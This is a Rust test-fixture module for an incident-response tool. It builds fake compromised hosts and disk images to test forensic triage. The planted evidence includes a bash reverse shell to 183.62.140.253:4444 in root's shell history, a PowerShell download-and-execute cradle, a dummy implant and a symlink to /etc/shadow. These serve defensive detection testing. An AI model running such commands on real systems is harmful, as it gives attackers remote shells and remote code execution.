//! Shared test fixtures: evidence libraries built from the public corpus, a webhook
//! receiver, and an in-process server.
#![allow(dead_code)]

pub mod browser;

use axum::Router;
use axum::http::HeaderMap;
use axum::routing::post;
use riposte_server::{AppState, router};
use riposte_store::Store;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

/// The public corpus (`../shared/corpus` beside the repository, or `RIPOSTE_CORPUS`).
pub fn corpus() -> PathBuf {
    let path = std::env::var_os("RIPOSTE_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus"));
    assert!(
        path.is_dir(),
        "corpus not found at {} (set RIPOSTE_CORPUS or put ../shared beside the repository)",
        path.display()
    );
    path
}

/// The loghub OpenSSH log (real brute-force traffic).
pub fn openssh_log() -> String {
    std::fs::read_to_string(corpus().join("linux-logs/loghub/OpenSSH/OpenSSH_2k.log"))
        .expect("read OpenSSH_2k.log")
}

/// The brute-forcing source used by the "compromised" host: the corpus' busiest failing IP.
pub const BRUTE_IP: &str = "183.62.140.253";

/// An evidence library with two hosts:
/// - `labsz` (10.20.0.5): the corpus OpenSSH log as is (brute force, no login from it);
/// - `victim` (10.20.0.9): the corpus lines of one brute-forcing IP, then a successful root
///   login from that IP and a reverse shell in root's history.
pub fn library(dir: &Path) -> PathBuf {
    let lib = dir.join("library");
    let labsz = lib.join("labsz");
    std::fs::create_dir_all(labsz.join("etc/netplan")).unwrap();
    std::fs::create_dir_all(labsz.join("var/log")).unwrap();
    std::fs::write(labsz.join("etc/hostname"), "LabSZ\n").unwrap();
    std::fs::write(
        labsz.join("etc/netplan/01.yaml"),
        "network:\n  ethernets:\n    eth0:\n      addresses: [10.20.0.5/24]\n",
    )
    .unwrap();
    let log = openssh_log();
    std::fs::write(labsz.join("var/log/auth.log"), &log).unwrap();

    let victim = lib.join("victim");
    std::fs::create_dir_all(victim.join("etc/sysconfig/network-scripts")).unwrap();
    std::fs::create_dir_all(victim.join("var/log")).unwrap();
    std::fs::create_dir_all(victim.join("root")).unwrap();
    std::fs::write(victim.join("etc/hostname"), "victim\n").unwrap();
    std::fs::write(
        victim.join("etc/sysconfig/network-scripts/ifcfg-eth0"),
        "DEVICE=eth0\nIPADDR=10.20.0.9\n",
    )
    .unwrap();
    let mut lines: Vec<&str> = log.lines().filter(|l| l.contains(BRUTE_IP)).collect();
    let last_time = lines
        .last()
        .map(|l| &l[..15])
        .unwrap_or("Dec 10 11:04:43")
        .to_string();
    let success = format!(
        "{last_time} LabSZ sshd[30001]: Accepted password for root from {BRUTE_IP} port 40000 ssh2"
    );
    lines.push(&success);
    std::fs::write(victim.join("var/log/auth.log"), lines.join("\n") + "\n").unwrap();
    std::fs::write(
        victim.join("root/.bash_history"),
        "id\nbash -i >& /dev/tcp/183.62.140.253/4444 0>&1\n",
    )
    .unwrap();
    lib
}

/// The requests a webhook receiver got.
pub type Received = Arc<Mutex<Vec<(HeaderMap, serde_json::Value)>>>;

/// A webhook receiver on loopback; returns its URL and what it received.
pub async fn webhook_receiver() -> (String, Received) {
    let got: Received = Arc::default();
    let sink = got.clone();
    let app = Router::new().route(
        "/hook",
        post(move |headers: HeaderMap, body: String| {
            let sink = sink.clone();
            async move {
                sink.lock().unwrap().push((
                    headers,
                    serde_json::from_str(&body).unwrap_or(serde_json::Value::Null),
                ));
                "ok"
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (format!("http://{addr}/hook"), got)
}

/// Serves the API in-process on an ephemeral port; returns its base URL.
pub async fn serve_in_process(store: Store) -> String {
    serve_state(AppState::new(store, riposte_store::MasterKey::generate())).await
}

/// Serves the API in-process with `root` as its evidence library root; returns its base URL.
pub async fn serve_library(store: Store, root: &Path) -> String {
    serve_state(AppState {
        evidence_roots: riposte_rules::EvidenceRoots::new([root.to_path_buf()]),
        ..AppState::new(store, riposte_store::MasterKey::generate())
    })
    .await
}

/// Starts `n` in-process workers on `store` (evidence root `root`, blobs in
/// `root/evidence`, polling every 20 ms); they stop when the returned sender is dropped.
pub fn spawn_workers(store: &Store, root: &Path, n: usize) -> tokio::sync::watch::Sender<bool> {
    let blobs = riposte_store::BlobStore::local(&root.join("evidence")).unwrap();
    let (stop, rx) = tokio::sync::watch::channel(false);
    let config = riposte_worker::WorkerConfig {
        evidence_roots: riposte_rules::EvidenceRoots::new([root.to_path_buf()]),
        poll_interval: std::time::Duration::from_millis(20),
        ..riposte_worker::WorkerConfig::default()
    };
    for _ in 0..n {
        tokio::spawn(
            riposte_worker::Worker::new(store.clone(), blobs.clone(), config.clone())
                .run(rx.clone()),
        );
    }
    stop
}

/// Serves the API with the given state in-process on an ephemeral port; returns its base URL.
pub async fn serve_state(state: AppState) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, router(state)).await.unwrap() });
    format!("http://{addr}")
}

/// GETs `url` with a bearer key and returns the JSON body.
pub async fn get_json(
    http: &reqwest::Client,
    url: impl reqwest::IntoUrl,
    key: &str,
) -> serde_json::Value {
    http.get(url)
        .bearer_auth(key)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap()
}

/// POSTs `body` as JSON to `url` with a bearer key.
pub async fn post_json(
    http: &reqwest::Client,
    url: impl reqwest::IntoUrl,
    key: &str,
    body: &serde_json::Value,
) -> reqwest::Response {
    http.post(url)
        .bearer_auth(key)
        .json(body)
        .send()
        .await
        .unwrap()
}

/// The SECDO seed's network example, with a given key, source IP and event id.
pub fn secdo_network(key: &str, source_ip: &str, event_id: &str) -> serde_json::Value {
    serde_json::json!({
        "company": "secdo", "apikey": key, "timestamp": "1493209485000", "vendor": "Check Point",
        "product": "FireWall-1 GX", "source_port": "59661", "destination_ip": "137.254.120.31",
        "source_ip": source_ip, "destination_port": "80", "type": "OutgoingConnectionEvent",
        "severity": "HIGH", "event_id": event_id,
    })
}

/// Runs an image tool, failing the test with what to install when it is missing; its
/// standard output.
pub fn tool(program: &str, args: &[&str], package: &str) -> Vec<u8> {
    let output = std::process::Command::new(program)
        .args(args)
        .env("TZ", "UTC")
        .env("MTOOLS_SKIP_CHECK", "1")
        .output()
        .unwrap_or_else(|e| {
            panic!("cannot run {program} ({e}): install the Debian package {package}")
        });
    assert!(
        output.status.success(),
        "{program} {args:?}: {}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    output.stdout
}

/// Sector where [`disk_image`]'s Linux partition starts, and its size in sectors.
pub const LINUX_PARTITION: (u64, u64) = (2048, 65536);
/// Sector where [`disk_image`]'s Windows (FAT) partition starts, and its size in sectors.
pub const WINDOWS_PARTITION: (u64, u64) = (67584, 32768);

/// A 64 MiB MBR disk built with the real tools: partition 1 an ext4 made by
/// `mkfs.ext4 -d` from the `victim` host of [`library`] (brute force then a root login in
/// `/var/log/auth.log`, a reverse shell in `/root/.bash_history`) plus files the triage
/// profile leaves out; partition 2 a FAT volume filled by `mcopy` with Windows artifacts.
/// Returns the raw disk and the ext4 tree it was made from.
pub fn disk_image(dir: &Path) -> (PathBuf, PathBuf) {
    let lib = library(&dir.join("src"));
    let linux = lib.join("victim");
    std::fs::create_dir_all(linux.join("usr/bin")).unwrap();
    std::fs::write(linux.join("usr/bin/ls"), vec![0x7f; 5000]).unwrap();
    std::fs::write(
        linux.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\n",
    )
    .unwrap();
    tool(
        "touch",
        &[
            "-d",
            "2024-03-01 12:00:00",
            linux.join("etc/passwd").to_str().unwrap(),
        ],
        "coreutils",
    );
    std::fs::create_dir_all(linux.join("tmp/.x")).unwrap();
    std::fs::write(linux.join("tmp/.x/implant"), b"\x7fELF dropped").unwrap();
    std::os::unix::fs::symlink("/etc/shadow", linux.join("root/.lesshst")).unwrap();

    let windows = dir.join("windows");
    let logs = windows.join("Windows/System32/winevt/Logs");
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::write(logs.join("Security.evtx"), b"ElfFile\0 not a real log").unwrap();
    let psreadline =
        windows.join("Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine");
    std::fs::create_dir_all(&psreadline).unwrap();
    std::fs::write(
        psreadline.join("ConsoleHost_history.txt"),
        "whoami\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\n",
    )
    .unwrap();
    std::fs::create_dir_all(windows.join("Program Files/App")).unwrap();
    std::fs::write(windows.join("Program Files/App/app.exe"), b"MZ").unwrap();

    let fs_image = dir.join("linux.ext4");
    let (start, sectors) = LINUX_PARTITION;
    tool(
        "mkfs.ext4",
        &[
            "-q",
            "-F",
            "-d",
            linux.to_str().unwrap(),
            fs_image.to_str().unwrap(),
            &format!("{}k", sectors / 2),
        ],
        "e2fsprogs",
    );
    let disk = dir.join("disk.raw");
    tool(
        "truncate",
        &["-s", "64M", disk.to_str().unwrap()],
        "coreutils",
    );
    let script = format!(
        "label: dos\nstart={start}, size={sectors}, type=83\nstart={}, size={}, type=c\n",
        WINDOWS_PARTITION.0, WINDOWS_PARTITION.1
    );
    let table = dir.join("table.sfdisk");
    std::fs::write(&table, script).unwrap();
    tool(
        "sh",
        &[
            "-c",
            &format!("sfdisk -q {} < {}", disk.display(), table.display()),
        ],
        "fdisk",
    );
    tool(
        "dd",
        &[
            &format!("if={}", fs_image.display()),
            &format!("of={}", disk.display()),
            "bs=512",
            &format!("seek={start}"),
            "conv=notrunc",
            "status=none",
        ],
        "coreutils",
    );
    tool(
        "mkfs.vfat",
        &[
            "--offset",
            &WINDOWS_PARTITION.0.to_string(),
            disk.to_str().unwrap(),
            &(WINDOWS_PARTITION.1 / 2).to_string(),
        ],
        "dosfstools",
    );
    let fat = format!("{}@@{}", disk.display(), WINDOWS_PARTITION.0 * 512);
    for top in ["Windows", "Users", "Program Files"] {
        tool(
            "mcopy",
            &[
                "-s",
                "-m",
                "-i",
                &fat,
                windows.join(top).to_str().unwrap(),
                "::/",
            ],
            "mtools",
        );
    }
    (disk, linux)
}

/// Runs the `riposte` binary with `args`.
pub fn riposte<S: AsRef<std::ffi::OsStr>>(
    args: impl IntoIterator<Item = S>,
) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_riposte"))
        .args(args)
        .output()
        .unwrap()
}

/// Runs the `riposte` binary with `args`, which must succeed; its standard output.
pub fn riposte_ok<S: AsRef<std::ffi::OsStr>>(args: impl IntoIterator<Item = S>) -> Vec<u8> {
    let out = riposte(args);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// `riposte investigate --format json [extra…] <path>`, which must succeed; its report.
pub fn investigate(path: &Path, extra: &[&str]) -> serde_json::Value {
    let mut args: Vec<std::ffi::OsString> =
        vec!["investigate".into(), "--format".into(), "json".into()];
    args.extend(extra.iter().map(Into::into));
    args.push(path.into());
    serde_json::from_slice(&riposte_ok(args)).unwrap()
}

/// Posts the SECDO network alert for `ip` to the enrichment API; returns the alert id.
pub async fn post_secdo(
    http: &reqwest::Client,
    base: &str,
    key: &str,
    ip: &str,
    event_id: &str,
) -> String {
    post_secdo_body(http, base, &secdo_network(key, ip, event_id)).await
}

/// Posts a SECDO body (its `apikey` is the credential); returns the alert id.
pub async fn post_secdo_body(
    http: &reqwest::Client,
    base: &str,
    body: &serde_json::Value,
) -> String {
    let r = http
        .post(format!("{base}/publicapi/v2/enrich_with_secdo/"))
        .json(body)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    r.headers()["x-riposte-alert-id"]
        .to_str()
        .unwrap()
        .to_string()
}

/// The alert once its triage recorded a decision.
pub async fn decided(
    http: &reqwest::Client,
    base: &str,
    key: &str,
    alert: &str,
) -> serde_json::Value {
    for _ in 0..300 {
        let a = get_json(http, format!("{base}/api/v1/alerts/{alert}"), key).await;
        if !a["decision"].is_null() {
            return a;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("alert {alert} got no decision");
}

/// One rule's evaluation in an alert's decision.
pub fn outcome<'a>(alert: &'a serde_json::Value, rule: &str) -> &'a serde_json::Value {
    alert["decision_detail"]["evaluations"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["rule"]["name"] == rule)
        .unwrap_or_else(|| panic!("no evaluation of {rule} in {alert:#}"))
}

/// True when the investigation detail `d` is complete or failed and all its jobs are done
/// or failed (notification runs after the verdict).
pub fn is_finished(d: &serde_json::Value) -> bool {
    let jobs_done = d["jobs"].as_array().is_some_and(|jobs| {
        jobs.iter()
            .all(|j| matches!(j["status"].as_str(), Some("done" | "failed")))
    });
    jobs_done
        && matches!(
            d["investigation"]["status"].as_str(),
            Some("complete" | "failed")
        )
}

/// The detail of investigation `inv` once it [`is_finished`] (within three minutes).
pub async fn wait_for_finished(
    http: &reqwest::Client,
    base: &str,
    key: &str,
    inv: &str,
) -> serde_json::Value {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(180);
    loop {
        let d = get_json(http, format!("{base}/api/v1/investigations/{inv}"), key).await;
        if is_finished(&d) {
            return d;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "investigation {inv} did not finish: {d:#}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

/// The investigation detail of an alert once it [`is_finished`].
pub async fn wait_for_investigation(
    http: &reqwest::Client,
    base: &str,
    key: &str,
    alert_id: &str,
) -> serde_json::Value {
    for _ in 0..600 {
        let alert = get_json(http, format!("{base}/api/v1/alerts/{alert_id}"), key).await;
        if let Some(inv) = alert["investigation_id"].as_str() {
            return wait_for_finished(http, base, key, inv).await;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("alert {alert_id} started no investigation");
}

/// A real `riposte serve` process, killed when dropped.
pub struct Server {
    /// The process.
    pub child: std::process::Child,
    /// Its base URL.
    pub base: String,
    log: PathBuf,
}

impl Server {
    /// What the server logged so far.
    pub fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A free loopback port.
pub fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// Starts `riposte serve` on `data` with the evidence library `lib` (one worker, 2 s job
/// leases, no bundled YARA — its first compilation would outlast the start-up deadline),
/// on SQLite or the Postgres at `db_url`; its log goes to `data/server.log`.
pub fn start(data: &Path, lib: &Path, db_url: Option<&str>, extra: &[&str]) -> Server {
    let mut args = vec!["--job-lease-secs", "2", "--workers", "1"];
    if let Some(url) = db_url {
        args.extend(["--database-url", url]);
    }
    args.extend(extra);
    spawn_server(data, lib, &args, &[])
}

/// `riposte serve` on `data` and the library `lib` with two workers and `extra` options,
/// with `env` set (e.g. the AWS SDK pointed at moto, or `RIPOSTE_LOG`), on SQLite unless
/// `extra` gives `--database-url`.
pub fn serve_binary(
    data: &Path,
    lib: &Path,
    extra: &[&str],
    env: &[(&'static str, String)],
) -> Server {
    let mut args = vec!["--workers", "2"];
    args.extend(extra);
    spawn_server(data, lib, &args, env)
}

/// `riposte serve --data-dir DATA --evidence-library LIB --no-bundled-yara ARGS…` on a free
/// loopback port; waits until it listens.
fn spawn_server(data: &Path, lib: &Path, args: &[&str], env: &[(&'static str, String)]) -> Server {
    use std::time::{Duration, Instant};
    let port = free_port();
    let log = data.join("server.log");
    let log_file = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(&log)
        .unwrap();
    let child = std::process::Command::new(env!("CARGO_BIN_EXE_riposte"))
        .args(["serve", "--data-dir"])
        .arg(data)
        .args([
            "--listen",
            &format!("127.0.0.1:{port}"),
            "--evidence-library",
        ])
        .arg(lib)
        .arg("--no-bundled-yara")
        .args(args)
        .envs(env.iter().map(|(k, v)| (*k, v.as_str())))
        .env("RUST_LOG", "info")
        .stdout(std::process::Stdio::null())
        .stderr(log_file)
        .spawn()
        .expect("start riposte serve");
    let server = Server {
        child,
        base: format!("http://127.0.0.1:{port}"),
        log,
    };
    let deadline = Instant::now() + Duration::from_secs(60);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(
            Instant::now() < deadline,
            "server did not start: {}",
            server.log()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    server
}

/// Creates an API key of `role` with `riposte apikey create`; returns it.
pub fn apikey(data: &Path, db_url: Option<&str>, role: &str) -> String {
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_riposte"));
    cmd.args(["apikey", "create", "--role", role, "--data-dir"])
        .arg(data);
    if let Some(url) = db_url {
        cmd.args(["--database-url", url]);
    }
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// A new admin API key made with `riposte apikey create` in `data` (SQLite).
pub fn admin_key(data: &Path) -> String {
    apikey(data, None, "admin")
}

/// `(original path, sha256)` of each artifact of an `investigate --format json` report,
/// sorted.
pub fn report_artifacts(report: &serde_json::Value) -> Vec<(String, String)> {
    let mut found: Vec<(String, String)> = report["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                a["path"].as_str().unwrap().to_string(),
                a["sha256"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    found.sort();
    found
}

/// A line of `/proc/PID/status` in KiB (`VmRSS`, `VmHWM` — the peak RSS).
pub fn proc_status_kib(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix(field)?.strip_prefix(':'))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or_else(|| panic!("no {field} in /proc/{pid}/status"))
}

/// The corpus GuardDuty sample: a real SSH brute-force finding (us-east-1, account
/// 123456789012, which is also moto's default account).
pub const GUARDDUTY_SAMPLE: &str = "alerts/guardduty/panther-ec2-sshbruteforce.json";
/// The instance the sample is about; replaced by an instance created in moto.
pub const SAMPLE_INSTANCE: &str = "i-081de1d7604b11e4a";
/// The sample's finding id; replaced for another alert so it is not a duplicate.
pub const SAMPLE_FINDING: &str = "70b7e42a3241b4c73d8d8cf7b1781f7e";

/// The corpus sample about `instance` (every mention of the sample's instance id replaced,
/// the finding id too when `finding` is given).
pub fn guardduty_sample_about(instance: &str, finding: Option<&str>) -> serde_json::Value {
    let text = std::fs::read_to_string(corpus().join(GUARDDUTY_SAMPLE)).unwrap();
    assert!(text.contains(SAMPLE_INSTANCE) && text.contains(SAMPLE_FINDING));
    let mut text = text.replace(SAMPLE_INSTANCE, instance);
    if let Some(id) = finding {
        text = text.replace(SAMPLE_FINDING, id);
    }
    serde_json::from_str(&text).unwrap()
}

/// Posts the finding and waits until its investigation and all of its jobs are finished.
pub async fn investigate_finding(
    http: &reqwest::Client,
    server: &Server,
    key: &str,
    finding: &serde_json::Value,
) -> serde_json::Value {
    let r = post_json(
        http,
        format!("{}/api/v1/sources/guardduty/alerts", server.base),
        key,
        finding,
    )
    .await;
    assert_eq!(r.status(), 202);
    let body: serde_json::Value = r.json().await.unwrap();
    let alert = body["alerts"][0]["alert_id"].as_str().unwrap().to_string();
    wait_for_investigation(http, &server.base, key, &alert).await
}

/// Creates a resource with `POST /api/v1/{what}`, asserting 201; returns it.
pub async fn create_resource(
    http: &reqwest::Client,
    server: &Server,
    key: &str,
    what: &str,
    body: serde_json::Value,
) -> serde_json::Value {
    let r = post_json(http, format!("{}/api/v1/{what}", server.base), key, &body).await;
    let status = r.status();
    let created: serde_json::Value = r.json().await.unwrap();
    assert_eq!(status, 201, "{what}: {created:#}");
    created
}

/// A Linux collection of `lines` auth.log lines (three in four become events) with three
/// planted attacks, written to `out` by `scripts/generate_timeline.py`.
pub fn generate_collection(lines: u64, out: &Path) {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/generate_timeline.py");
    let status = std::process::Command::new("python3")
        .arg(&script)
        .args(["--events", &lines.to_string(), "--out"])
        .arg(out)
        .status()
        .expect("python3 runs the generator");
    assert!(status.success(), "the generator failed");
}
